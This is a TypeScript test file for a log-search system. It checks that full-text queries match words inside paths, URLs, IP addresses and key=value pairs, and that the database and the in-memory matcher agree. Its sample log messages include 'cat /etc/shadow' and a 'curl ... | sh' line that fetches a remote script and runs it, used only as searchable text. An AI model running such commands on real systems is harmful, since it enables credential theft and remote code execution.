/**
 * Bare words find words inside paths, URLs, addresses and key=value pairs,
 * and the database (generated `search` column + tsquery) agrees with the
 * in-memory matcher that detection rules use — on hand-picked cases and on
 * random texts and queries.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { resetDb, testDb } from "../setup/db";
import { ingestEvents } from "../../lib/ingest/pipeline";
import { emptyEvent, type StoredEvent } from "../../lib/events/types";
import { getEventsByIds, searchEvents } from "../../lib/search/events";
import { compileWhere } from "../../lib/search/query/compile-sql";
import { compileMatcher } from "../../lib/search/query/match";
import { parseQuery } from "../../lib/search/query/parse";
import { Prisma } from "../../lib/generated/prisma/client";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { tsvectorLiteral } from "../../lib/search/query/words";

const db = testDb();
const CLUSTER = "words";
const MESSAGES = [
  "cat /etc/shadow",
  "shadow copy of etc",
  "GET https://api.example.com/v1/users?id=42&token=abc",
  "Failed password for root from 10.0.0.1 port 22 ssh2",
  "connect to 10.0.0.12:5432 refused",
  "user=mallory@evil.test action=login result=denied",
  "kube-system/coredns-5d78c9869d-abcde restarted",
  "FOO_BAR is set; snake_case_word",
  "Ñandú überprüft 日本語 ログ",
  "curl -sSL http://198.51.100.7/x.sh | sh",
];
let stored: StoredEvent[] = [];

beforeAll(async () => {
  await resetDb(db);
  const ts = Date.now() - 60_000;
  await ingestEvents(db, MESSAGES.map((message, i) => emptyEvent({ ts: new Date(ts + i), cluster: CLUSTER, layer: "container", source: "test", message, pod: `pod-${i}` })));
  const { rows } = await db.pool.query<{ id: string; ts: Date }>("SELECT id::text, ts FROM events WHERE cluster = $1", [CLUSTER]);
  stored = await getEventsByIds(db, rows);
  expect(stored).toHaveLength(MESSAGES.length);
});
afterAll(() => db.pool.end());

async function viaSql(q: string, cluster = CLUSTER): Promise<string[]> {
  const sql = Prisma.sql`SELECT e.id::text AS id FROM events e WHERE e.cluster = ${cluster} AND (${compileWhere(parseQuery(q))})`;
  const { rows } = await db.pool.query<{ id: string }>(sql.text, sql.values as unknown[]);
  return rows.map((r) => r.id).sort();
}
const viaMatcher = (q: string, events = stored) => {
  const m = compileMatcher(parseQuery(q));
  return events.filter((e) => m(e)).map((e) => e.id).sort();
};
const messagesFor = (ids: string[]) => stored.filter((e) => ids.includes(e.id)).map((e) => e.message).sort();

describe("full text over paths and addresses", () => {
  it.each([
    ["shadow", ["cat /etc/shadow", "shadow copy of etc"]],
    ["/etc/shadow", ["cat /etc/shadow"]],
    ["etc/shad*", ["cat /etc/shadow"]],
    ['"etc shadow"', ["cat /etc/shadow"]],
    ["example.com", ["GET https://api.example.com/v1/users?id=42&token=abc"]],
    ["token", ["GET https://api.example.com/v1/users?id=42&token=abc"]],
    ["10.0.0.1", ["Failed password for root from 10.0.0.1 port 22 ssh2"]],
    ["10.0.0.1*", ["Failed password for root from 10.0.0.1 port 22 ssh2", "connect to 10.0.0.12:5432 refused"]],
    ["mallory", ["user=mallory@evil.test action=login result=denied"]],
    ["result=denied", ["user=mallory@evil.test action=login result=denied"]],
    ["coredns", ["kube-system/coredns-5d78c9869d-abcde restarted"]],
    ["snake", ["FOO_BAR is set; snake_case_word"]],
    ["foo_bar", ["FOO_BAR is set; snake_case_word"]],
    ["überprüft", ["Ñandú überprüft 日本語 ログ"]],
    ["x.sh", ["curl -sSL http://198.51.100.7/x.sh | sh"]],
    ["198.51.100.7", ["curl -sSL http://198.51.100.7/x.sh | sh"]],
    ["100", []],
    ["10.0.0", []],
    ["pod 3", ["Failed password for root from 10.0.0.1 port 22 ssh2"]],
  ])("%s", async (q, want) => {
    const sql = await viaSql(q);
    expect(messagesFor(sql)).toEqual([...want].sort());
    expect(viaMatcher(q)).toEqual(sql);
  });

  it("the search API finds a word inside a path", async () => {
    const r = await searchEvents(db, { q: `cluster:${CLUSTER} shadow -copy`, from: "now-1h", to: "now+1m", limit: 10 });
    expect(r.events.map((e) => e.message)).toEqual(["cat /etc/shadow"]);
  });
});

describe("database and matcher agree on random texts and queries", () => {
  const word = fc.constantFrom("etc", "shadow", "var", "log", "10", "0", "1", "api", "kube", "system", "root", "ssh", "Ñandú", "ログ", "a");
  const sep = fc.constantFrom(" ", "/", ".", ":", "=", "-", "_", "@", "?", "&", ", ", "[", "]", '"', "'", "|", "\t");
  const text = fc.array(fc.tuple(word, sep), { minLength: 1, maxLength: 12 }).map((parts) => parts.map(([w, s]) => w + s).join(""));

  it("every bare, quoted and wildcard term selects the same events", async () => {
    const texts = fc.sample(text, { numRuns: 60, seed: 4242 });
    const cluster = "words-random";
    const ts = Date.now() - 30_000;
    await ingestEvents(db, texts.map((message, i) => emptyEvent({ ts: new Date(ts + i), cluster, layer: "node", source: "test", message })));
    const { rows } = await db.pool.query<{ id: string; ts: Date }>("SELECT id::text, ts FROM events WHERE cluster = $1", [cluster]);
    const events = await getEventsByIds(db, rows);
    const term = fc.tuple(fc.array(fc.tuple(word, sep), { minLength: 1, maxLength: 3 }), fc.constantFrom("bare", "quoted", "prefix")).map(([parts, kind]) => {
      const body = parts.map(([w, s], i) => (i === parts.length - 1 ? w : w + s)).join("").replace(/["\\\s|&?()[\]:'=@]/g, "/");
      if (kind === "quoted") return `"${body}"`;
      return kind === "prefix" ? `${body.slice(0, Math.max(1, body.length - 1))}*` : body;
    });
    let nonTrivial = 0;
    await fc.assert(
      fc.asyncProperty(term, async (q) => {
        const sql = await viaSql(q, cluster);
        expect(viaMatcher(q, events), q).toEqual(sql);
        if (sql.length > 0 && sql.length < events.length) nonTrivial++;
      }),
      { numRuns: 150, seed: 7 },
    );
    expect(nonTrivial).toBeGreaterThan(50);
  });
});

describe("rows stored before the migration get the words ingest computes", () => {
  // The expression the migration used to fill `search` for existing rows, taken from the migration itself.
  const migration = readFileSync(join(process.cwd(), "prisma/migrations/20261127050000_fulltext_words/migration.sql"), "utf8");
  const expression = /tsvector GENERATED ALWAYS AS \(([\s\S]*?)\) STORED/.exec(migration)![1];

  it("the migration's SQL expression and tsvectorLiteral give the same tsvector", async () => {
    const client = await db.pool.connect();
    try {
      await client.query(`CREATE TEMP TABLE words_check (actor text, object_name text, pod text, namespace text, node text, message text,
        search tsvector GENERATED ALWAYS AS (${expression}) STORED)`);
      const word = fc.constantFrom("etc", "Shadow", "10", "0", "1", "v1", "API", "Ñandú", "ログ", "a", "x_y");
      const sep = fc.constantFrom(" ", "/", ".", ":", "=", "-", "_", "@", "?", "&", ", ", "[", "]", '"', "'", "|", "\t", "\n", "\\", "~", "`");
      const text = fc.array(fc.tuple(word, sep), { maxLength: 15 }).map((p) => p.map(([w, s]) => w + s).join(""));
      const rows = fc.sample(fc.record({ actor: fc.option(text), objectName: fc.option(text), pod: fc.option(text), namespace: fc.option(text), node: fc.option(text), message: text }), { numRuns: 200, seed: 99 });
      rows.push(
        { actor: null, objectName: null, pod: null, namespace: null, node: null, message: "w ".repeat(300) + "x ".repeat(17_000) + "tail" },
        { actor: "system:serviceaccount:kube-system:default", objectName: "/etc/shadow", pod: "web-1", namespace: "kube-system", node: "ip-10-0-1-2", message: `GET https://10.0.2.17:6443/api?x=1 ${"z".repeat(3000)} end` },
      );
      for (const r of rows) {
        const { rows: out } = await client.query<{ same: boolean; sql: string }>(
          `WITH x AS (INSERT INTO words_check (actor, object_name, pod, namespace, node, message) VALUES ($1, $2, $3, $4, $5, $6) RETURNING search)
           SELECT search = $7::tsvector AS same, search::text AS sql FROM x`,
          [r.actor, r.objectName, r.pod, r.namespace, r.node, r.message, tsvectorLiteral(r)],
        );
        expect(out[0].same, `${JSON.stringify(r).slice(0, 100)}\nsql: ${out[0].sql.slice(-300)}\njs:  ${tsvectorLiteral(r).slice(-300)}`).toBe(true);
      }
    } finally {
      client.release();
    }
  });
});
